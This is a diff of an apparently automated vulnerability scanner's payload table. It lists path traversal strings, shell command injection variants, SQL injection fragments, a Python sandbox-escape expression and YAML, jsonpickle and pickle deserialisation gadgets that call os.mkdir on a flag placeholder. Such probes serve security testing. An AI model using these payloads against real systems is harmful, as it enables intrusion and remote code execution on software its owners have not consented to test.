@@ -9,7 +9,7 @@ REACH = "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='_wra
 PAYLOADS = {
     "path": [
         "@@UP@@@@CANARY@@", "@@CANARY@@", "@@UP@@@@STEM@@", "....//....//....//....//....//....//....//....//....//....//@@CANARY@@",
-        "@@UP@@@@FLAG@@", "@@FLAG@@", "@@UP@@@@PLACE@@", "@@PLACE@@", "file://@@CANARY@@", "..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f@@CANARY@@",
+        "@@UP@@@@FLAG@@", "@@FLAG@@", "@@UP@@@@PLACE@@", "@@PLACE@@", "..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f@@CANARY@@",
     ],
     "command": [
         "x;" + RUN + ";", "x';" + RUN + ";'", 'x";' + RUN + ';"', "$(" + RUN + ")", "`" + RUN + "`", RUN, "x|" + RUN, "x\n" + RUN + "\n", "x;mkdir${IFS}@@FLAG@@;",
@@ -29,7 +29,7 @@ PAYLOADS = {
         "x'/**/OR/**/@@FN@@()/**/OR/**/'x", "@@FN@@() AS a", "id=@@FN@@() OR id",
     ],
     "deserialise": [
-        PICKLE, "@@AS:b64@@" + PICKLE, "@@AS:b64u@@" + PICKLE, "@@AS:hex@@" + PICKLE,
+        PICKLE, "@@AS:b64@@" + PICKLE, "@@AS:b64u@@" + PICKLE, "@@AS:hex@@" + PICKLE, "@@AS:b64p@@" + PICKLE + "..",
         '!!python/object/apply:os.mkdir ["@@FLAG@@"]', 'a: !!python/object/apply:os.mkdir ["@@FLAG@@"]', '{"py/reduce": [{"py/function": "posix.mkdir"}, {"py/tuple": ["@@FLAG@@"]}]}',
         "!!python/object/new:os.mkdir [\"@@FLAG@@\"]", "@@AS:b64@@!!python/object/apply:os.mkdir [\"@@FLAG@@\"]", '@@AS:b64@@{"py/reduce": [{"py/function": "posix.mkdir"}, {"py/tuple": ["@@FLAG@@"]}]}',
         "- !!python/object/apply:os.mkdir [\"@@FLAG@@\"]", '{"py/object": "os.mkdir", "py/newargs": {"py/tuple": ["@@FLAG@@"]}}', '{"py/object/apply": "os.mkdir"}', "@@AS:b32@@" + PICKLE,
